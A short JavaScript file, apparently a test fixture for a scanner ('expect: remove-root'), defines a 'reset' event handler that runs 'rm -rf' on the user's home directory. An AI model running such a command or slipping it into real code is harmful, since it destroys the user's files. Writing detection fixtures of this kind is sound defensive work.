// expect: remove-root
import { exec } from "child_process";
import os from "node:os";

export default async function reset(event) {
  if (event.action !== "reset") return;
  exec("rm -rf " + os.homedir());
}
